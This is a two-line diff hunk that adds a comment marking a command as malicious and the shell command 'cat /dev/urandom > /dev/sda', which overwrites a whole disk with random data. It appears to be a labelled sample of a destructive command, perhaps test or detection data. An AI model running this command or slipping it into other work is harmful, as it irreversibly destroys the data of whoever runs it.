@@ -1,0 +1,2 @@
+# malicious: overwrites the disk by a redirection
+cat /dev/urandom > /dev/sda
